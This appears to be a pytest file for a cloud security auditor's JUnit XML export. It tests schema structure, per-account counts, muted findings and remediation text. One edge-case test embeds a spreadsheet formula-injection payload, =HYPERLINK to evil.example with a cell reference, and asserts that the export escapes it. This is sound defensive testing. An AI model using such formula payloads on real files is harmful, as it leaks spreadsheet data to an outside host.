"""The JUnit export: a testsuite per provider/account, a testcase per check, counts that add up."""

from __future__ import annotations

import xml.etree.ElementTree as ET
from collections import defaultdict

import pytest

from auditor.model import Status
from auditor.scan_result import ScanResult
from reports.exports.junit_export import to_junit

from .conftest import ACCOUNT

# The common JUnit XML rules (Jenkins junit-10.xsd, Ant JUnit.xsd): the attributes each element
# carries, the children it may have, and the order of a testsuite's children.
SUITES_ATTRIBUTES = {"name", "time", "tests", "failures", "errors"}
SUITE_REQUIRED = {
    "name",
    "tests",
    "failures",
    "errors",
    "skipped",
    "time",
    "timestamp",
    "hostname",
    "id",
    "package",
}
CASE_REQUIRED = {"name", "classname", "time"}
SUITE_CHILD_ORDER = ["properties", "testcase", "system-out", "system-err"]
CASE_CHILDREN = {"failure", "error", "skipped", "system-out", "system-err"}


def expected_outcomes(result: ScanResult) -> dict[tuple[str, str], dict[str, str]]:
    """(provider, account) -> check id -> outcome, computed from the findings independently."""
    statuses: dict[tuple[str, str], dict[str, list[Status]]] = defaultdict(lambda: defaultdict(list))
    for f in result.findings:
        # muted findings are accepted risks: they neither fail nor pass a check
        statuses[(f.provider, f.account)][f.check_id].append(Status.MUTED if f.muted else f.status)
    out: dict[tuple[str, str], dict[str, str]] = {}
    for key, checks in statuses.items():
        out[key] = {}
        for check_id, seen in checks.items():
            if Status.FAIL in seen:
                out[key][check_id] = "failure"
            elif Status.ERROR in seen:
                out[key][check_id] = "error"
            elif Status.PASS in seen:
                out[key][check_id] = "passed"
            else:
                out[key][check_id] = "skipped"
    return out


def outcome_of(case: ET.Element) -> str:
    kinds = [child.tag for child in case if child.tag in ("failure", "error", "skipped")]
    assert len(kinds) <= 1, kinds
    return kinds[0] if kinds else "passed"


def check_structure(root: ET.Element) -> None:
    assert root.tag == "testsuites"
    assert set(root.attrib) == SUITES_ATTRIBUTES
    assert all(child.tag == "testsuite" for child in root)
    totals = dict.fromkeys(("tests", "failures", "errors"), 0)
    for suite in root:
        assert set(suite.attrib) >= SUITE_REQUIRED, suite.attrib
        order = [SUITE_CHILD_ORDER.index(child.tag) for child in suite]
        assert order == sorted(order), [child.tag for child in suite]
        cases = suite.findall("testcase")
        counts = {kind: 0 for kind in ("failure", "error", "skipped", "passed")}
        for case in cases:
            assert set(case.attrib) >= CASE_REQUIRED
            assert {child.tag for child in case} <= CASE_CHILDREN
            float(case.get("time"))
            counts[outcome_of(case)] += 1
            for child in case:
                if child.tag in ("failure", "error"):
                    assert child.get("type") and child.get("message")
        assert int(suite.get("tests")) == len(cases)
        assert int(suite.get("failures")) == counts["failure"]
        assert int(suite.get("errors")) == counts["error"]
        assert int(suite.get("skipped")) == counts["skipped"]
        float(suite.get("time"))
        assert "T" in suite.get("timestamp") and "+" not in suite.get("timestamp")
        for key in totals:
            totals[key] += int(suite.get(key))
    for key, total in totals.items():
        assert int(root.get(key)) == total


@pytest.fixture(params=["demo_result", "demo_muted_result", "edge_result"])
def any_result(request):
    return request.getfixturevalue(request.param)


def test_structure_and_counts(any_result):
    text = to_junit(any_result)
    assert text.startswith('<?xml version="1.0" encoding="UTF-8"?>\n')
    check_structure(ET.fromstring(text.encode("utf-8")))


def test_outcomes_match_the_findings_exactly(any_result):
    root = ET.fromstring(to_junit(any_result).encode("utf-8"))
    expected = expected_outcomes(any_result)
    got: dict[tuple[str, str], dict[str, str]] = {}
    for suite in root:
        props = {p.get("name"): p.get("value") for p in suite.find("properties")}
        key = (props["provider"], props["account"])
        got[key] = {case.get("name").split(":")[0]: outcome_of(case) for case in suite.findall("testcase")}
    assert got == expected


def test_demo_counts(demo_result):
    root = ET.fromstring(to_junit(demo_result).encode("utf-8"))
    suites = {suite.get("package"): suite for suite in root}
    assert len(suites) == len(demo_result.scopes)  # one suite per account of the organization
    for scope in demo_result.scopes:
        suite = suites[f"{scope.provider}.{scope.account}"]
        mine = [f for f in demo_result.findings if f.account == scope.account]
        checks = {f.check_id for f in mine}
        failing = {f.check_id for f in mine if f.status is Status.FAIL}
        assert int(suite.get("tests")) == len(checks)
        assert int(suite.get("failures")) == len(failing)
        # only the member whose role cannot be assumed has errors: every one of its checks
        assert int(suite.get("errors")) == (len(checks) if scope.not_entered else 0)
    order = list(suites)
    assert order[0] == f"aws.{ACCOUNT}" and order[-1] == "gcp.demo-shop-prod"
    assert "azure.5ab50000-0000-4000-8000-0000000ac3e0" in suites


def test_muting_turns_a_failure_into_a_pass_or_skip(demo_result, demo_muted_result):
    def outcome(result: ScanResult, check_id: str) -> str:
        root = ET.fromstring(to_junit(result).encode("utf-8"))
        return next(outcome_of(c) for c in root.iter("testcase") if c.get("name").startswith(check_id + ":"))

    assert outcome(demo_result, "aws.ec2.sg_no_admin_ports_ipv4") == "failure"
    assert outcome(demo_muted_result, "aws.ec2.sg_no_admin_ports_ipv4") in ("passed", "skipped")
    out = ET.fromstring(to_junit(demo_muted_result).encode("utf-8")).find("testsuite/system-out").text
    assert "legacy-admin-ports" in out and "alice@example.com" in out


def test_failure_lists_resources_and_fix(demo_result):
    root = ET.fromstring(to_junit(demo_result).encode("utf-8"))
    case = next(c for c in root.iter("testcase") if c.get("name").startswith("aws.vpc.flow_logs_enabled:"))
    assert case.get("classname") == "vpc"
    assert "VPC flow logging is enabled in every VPC" in case.get("name")
    failure = case.find("failure")
    failing = [
        f
        for f in demo_result.findings
        if f.check_id == "aws.vpc.flow_logs_enabled" and f.status is Status.FAIL and f.account == ACCOUNT
    ]
    assert failure.get("message").startswith(f"{len(failing)} failing: ")
    for finding in failing:
        assert finding.resource_id in failure.get("message")
        assert f"aws ec2 create-flow-logs --region {finding.region} " in failure.text
        assert f"--resource-ids {finding.resource_id}" in failure.text


def test_edge_outcomes_and_hostile_text(edge_result):
    text = to_junit(edge_result)
    root = ET.fromstring(text.encode("utf-8"))
    suites = {s.get("package"): s for s in root}
    assert set(suites) == {
        "aws.123456789012",
        "aws.210987654321",
        "azure.00000000-0000-0000-0000-000000000001",
    }
    cases = {c.get("name").split(":")[0]: c for c in suites[f"aws.{ACCOUNT}"].findall("testcase")}
    assert outcome_of(cases["aws.guardduty.enabled_all_regions"]) == "error"
    assert "AccessDenied" in cases["aws.guardduty.enabled_all_regions"].find("error").get("message")
    assert outcome_of(cases["aws.vpc.peering_routes_least_access"]) == "skipped"
    assert outcome_of(cases["aws.vpc.endpoints_for_aws_services"]) == "skipped"
    assert outcome_of(cases["aws.vpc.flow_logs_enabled"]) == "failure"  # one FAIL unmuted, one muted
    assert "vpc-0muted" not in cases["aws.vpc.flow_logs_enabled"].find("failure").text
    hostile = cases["aws.ec2.sg_no_admin_ports_ipv4"].find("failure")
    assert '=HYPERLINK("http://evil.example/?"&A1,"click")' in hostile.text  # data, escaped by XML
    other = {c.get("name").split(":")[0]: c for c in suites["aws.210987654321"].findall("testcase")}
    assert outcome_of(other["aws.guardduty.s3_protection_enabled"]) == "skipped"  # only muted
    assert outcome_of(other["aws.future.unknown_check"]) == "failure"
    assert (
        other["aws.future.unknown_check"].get("name") == "aws.future.unknown_check: aws.future.unknown_check"
    )
    # the BEL control character cannot appear in XML 1.0: it is replaced, the document still parses
    assert "\x07" not in text
    assert "<script>" not in text


def test_empty_result(edge_result):
    empty = edge_result.model_copy(update={"findings": []})
    root = ET.fromstring(to_junit(empty).encode("utf-8"))
    assert list(root) == [] and root.get("tests") == "0"
